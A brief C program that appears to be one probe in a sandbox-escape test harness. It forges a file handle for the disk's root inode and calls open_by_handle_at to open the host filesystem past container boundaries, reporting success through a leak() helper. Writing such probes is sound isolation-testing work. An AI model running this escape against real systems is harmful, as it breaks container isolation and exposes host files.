/* Opens a file by its handle, past every folder. */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <stdlib.h>

int main(void)
{
	struct file_handle *handle = malloc(sizeof(*handle) + MAX_HANDLE_SZ);
	static const unsigned char root[8] = {2, 0, 0, 0, 0, 0, 0, 0};

	handle->handle_bytes = 8;
	handle->handle_type = 1;
	memcpy(handle->f_handle, root, sizeof(root));
	if (open_by_handle_at(AT_FDCWD, handle, O_RDONLY) >= 0)
		leak("the root of the disk");
	return finish();
}
